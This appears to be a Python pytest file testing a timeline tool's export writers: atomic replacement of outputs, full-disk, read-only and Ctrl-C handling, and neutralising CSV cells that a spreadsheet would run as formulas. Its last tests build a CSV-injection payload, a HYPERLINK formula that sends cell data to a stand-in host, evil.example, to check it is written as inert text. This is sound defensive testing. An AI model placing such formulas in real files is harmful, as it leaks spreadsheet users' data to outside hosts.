"""Outputs are complete or absent (issue 17): a full disk, an error or a Ctrl-C midway
leaves the previous file as it was and no partial file; unwritable outputs are one line;
CSV cells cannot become spreadsheet formulas.

Against real folders: a temporary folder, a tiny tmpfs that really fills up (when the test
runs as root and may mount one), ``/dev/full``, and a real SIGINT to a writing process.
"""

from __future__ import annotations

import contextlib
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest
from conftest import REPO, SEED
from test_plot import make_frame, story_frame  # tests dir is on sys.path

import timeline
from timeline.cli import main
from timeline.errors import OutputError, TimelineError
from timeline.export import write
from timeline.export.tables import FORMULA_START, neutralise

PREVIOUS = "the previous output\n"


def leftovers(folder: Path) -> list[str]:
    """Temporary files a writer left behind."""
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".part"))


@pytest.fixture(scope="module")
def events() -> pd.DataFrame:
    return timeline.extract(timeline.read_articles(SEED))


@pytest.mark.parametrize(
    "name, fmt",
    [
        ("e.csv", None),
        ("e.json", None),
        ("e.parquet", None),
        ("p.html", None),
        ("s.json", "timelinejs"),
    ],
)
def test_each_writer_replaces_the_file_whole_and_keeps_its_mode(tmp_path, events, name, fmt):
    target = tmp_path / name
    target.write_text(PREVIOUS)
    target.chmod(0o640)
    write(timeline.plot(events) if name.endswith(".html") else events, target, fmt)
    assert target.read_bytes() != PREVIOUS.encode() and target.stat().st_size > 100
    assert oct(target.stat().st_mode & 0o777) == oct(0o640)
    assert leftovers(tmp_path) == []


def test_a_new_file_gets_the_umask_mode_and_a_symlink_keeps_pointing(tmp_path, events):
    old = os.umask(0o022)
    try:
        write(events, tmp_path / "new.csv")
    finally:
        os.umask(old)
    assert oct((tmp_path / "new.csv").stat().st_mode & 0o777) == oct(0o644)
    real = tmp_path / "real.csv"
    real.write_text(PREVIOUS)
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    write(events, link)
    assert link.is_symlink() and real.read_text().startswith("event_id,")


def test_an_error_midway_leaves_the_previous_page(tmp_path):
    target = tmp_path / "page.html"
    target.write_text(PREVIOUS)
    with pytest.raises(TimelineError):
        write(pd.DataFrame({"label": ["no dates"]}), target)  # FrameError inside the writer
    assert target.read_text() == PREVIOUS and leftovers(tmp_path) == []


@pytest.fixture
def tiny_disk(tmp_path) -> Path:
    """A real 256 KiB tmpfs: a write that does not fit fails with ENOSPC."""
    mount = tmp_path / "tiny"
    mount.mkdir()
    if os.geteuid() != 0:
        pytest.skip("mounting a tmpfs needs root; /dev/full is tested instead")
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(mount)], capture_output=True
    )
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {done.stderr.decode().strip()}")
    try:
        yield mount
    finally:
        subprocess.run(["umount", str(mount)], check=True)


def test_a_full_disk_keeps_the_previous_output_and_leaves_no_partial_file(tiny_disk):
    target = tiny_disk / "events.csv"
    target.write_text(PREVIOUS)
    big = make_frame(5000, seed=3)  # a few MB of CSV: cannot fit in 256 KiB
    with pytest.raises(OutputError, match=r"cannot write .*events.csv: No space left on device"):
        write(big, target)
    assert target.read_text() == PREVIOUS
    assert leftovers(tiny_disk) == []
    write(big.head(3), target)  # the space the failed write took is free again
    assert target.read_text().startswith("event_id,")


def test_a_full_disk_through_the_cli_is_one_line_and_exit_1(tiny_disk, capsys):
    target = tiny_disk / "events.json"
    target.write_text(PREVIOUS)
    (tiny_disk / "filler").write_bytes(b"x" * (256 * 1024 - 8192))
    assert main(["extract", str(SEED), "-q", "-o", str(target)]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "No space left on device" in err, err
    assert target.read_text() == PREVIOUS and leftovers(tiny_disk) == []


def test_dev_full_is_one_line_and_exit_1(capsys, events):
    with pytest.raises(OutputError, match="cannot write /dev/full: No space left on device"):
        write(events, "/dev/full", "csv")
    assert Path("/dev/full").is_char_device()  # written in place, never renamed over
    assert main(["extract", str(SEED), "-q", "-o", "/dev/full"]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "No space left on device" in err, err


@pytest.mark.parametrize(
    "make, reason",
    [
        (lambda tmp: tmp, "it is a folder"),
        (lambda tmp: tmp / "missing" / "e.csv", "does not exist"),
        (lambda tmp: Path("/proc/e.csv"), "cannot write /proc/e.csv"),
    ],
)
def test_unwritable_outputs_are_one_clear_error(tmp_path, events, make, reason):
    target = make(tmp_path)
    with pytest.raises(OutputError, match=reason):
        write(events, target, "csv")
    assert not (tmp_path / "missing").exists()  # no folder made that the user did not ask for


def test_a_read_only_file_is_not_replaced(tmp_path, events):
    target = tmp_path / "locked.csv"
    target.write_text(PREVIOUS)
    target.chmod(0o444)
    with pytest.raises(OutputError, match="read-only"):
        write(events, target)
    assert target.read_text() == PREVIOUS


_WRITER = """
import sys
sys.path.insert(0, {tests!r})
from test_plot import make_frame
from timeline.export import write
frame = make_frame(150_000, seed=5)
print("ready", flush=True)
write(frame, sys.argv[1])
print("finished", flush=True)
"""


@pytest.mark.slow
def test_a_sigint_mid_write_leaves_the_previous_file_not_a_shorter_one(tmp_path):
    target = tmp_path / "big.csv"
    target.write_text(PREVIOUS)
    script = _WRITER.format(tests=str(REPO / "tests"))
    proc = subprocess.Popen(
        [sys.executable, "-c", script, str(target)], stdout=subprocess.PIPE, text=True
    )
    try:
        assert proc.stdout.readline().strip() == "ready"
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline:  # the CSV is being written into the .part file
            parts = [tmp_path / n for n in leftovers(tmp_path)]
            if any(p.stat().st_size > 0 for p in parts if p.exists()):
                break
            time.sleep(0.005)
        else:
            pytest.fail("the writer never started writing")
        proc.send_signal(signal.SIGINT)
        out, _ = proc.communicate(timeout=60)
    finally:
        with contextlib.suppress(ProcessLookupError):
            proc.kill()
    assert "finished" not in out and proc.returncode != 0  # it was interrupted midway
    assert target.read_text() == PREVIOUS
    assert leftovers(tmp_path) == []


# ---------------------------------------------------------------- CSV injection (OWASP)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_are_quoted_as_text(tmp_path, start):
    df = story_frame()
    payload = start + 'HYPERLINK("https://evil.example/?"&A1,"click")'
    for column in ("label", "title", "sentence", "source", "sources", "outlets", "actors"):
        df[column] = payload
    path = write(df, tmp_path / "e.csv")
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    for column in ("label", "title", "sentence", "source", "sources", "outlets", "actors"):
        assert set(back[column]) == {"'" + payload}, column
    assert df.loc[0, "label"] == payload  # the caller's frame is not changed


def test_csv_leaves_ordinary_text_and_numbers_alone(tmp_path):
    df = story_frame()
    path = write(df, tmp_path / "e.csv")
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert list(back["label"]) == [str(x) for x in df["label"]]
    assert not any(cell.startswith("'") for cell in back.to_numpy().ravel())
    assert neutralise(pd.Series([-3, 5])).tolist() == [-3, 5]  # numbers are not formulas
    assert FORMULA_START == ("=", "+", "-", "@", "\t", "\r")
